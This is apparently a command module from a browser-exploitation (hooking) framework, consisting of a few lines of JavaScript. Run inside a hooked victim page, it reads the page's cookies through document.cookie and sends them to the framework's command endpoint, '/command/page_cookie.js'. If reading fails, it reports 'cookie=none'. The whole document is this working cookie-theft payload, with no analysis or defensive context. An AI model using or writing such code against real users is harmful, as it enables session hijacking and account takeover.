hk.execute(function () {
  try {
    hk.net.send('/command/page_cookie.js', 11, 'cookie=' + document.cookie, hk.status.success());
  } catch (e) {
    hk.net.send('/command/page_cookie.js', 11, 'cookie=none', hk.status.error());
  }
});
